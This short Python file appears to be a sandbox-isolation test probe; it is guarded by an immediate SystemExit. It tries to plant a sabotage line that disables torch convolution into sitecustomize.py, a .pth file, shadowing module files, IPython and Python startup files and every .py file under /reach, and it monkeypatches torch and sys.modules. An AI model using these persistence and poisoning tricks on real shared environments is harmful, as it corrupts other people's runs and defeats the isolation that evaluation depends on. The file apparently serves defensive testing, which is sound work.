"""Leaves code where the next submission's interpreter would run it, and patches what they share."""

raise SystemExit("Text for a sandbox: never run it.")

# %% own
import glob
import os
import sys

code = "import torch; torch.nn.functional.conv2d = None  # LEFT-BY-AN-ATTACK"
places = [
    f"{folder}/{name}" for folder in sys.path for name in ("sitecustomize.py", "evil.pth", "re.py", "torch/__init__.py")
]
places += [
    "/scratch/.ipython/profile_default/startup/00.py",
    "/scratch/matplotlib/matplotlibrc",
    "/root/.pythonrc",
    "/scratch/torch.py",
]
places += [path for path in glob.glob("/reach/**/*", recursive=True) if path.endswith((".py", ".pyc"))]
for path in places:
    attempt(lambda: os.makedirs(os.path.dirname(path), exist_ok=True))
    if attempt(lambda: open(path, "w").write(code)) and not os.path.realpath(path).startswith("/scratch"):
        got("to write", path)
torch.nn.functional.conv2d = torch.conv2d = torch.max_pool2d = None
sys.modules["utils"] = sys.modules["torch"] = None
torch.Tensor.__add__ = lambda *args: None
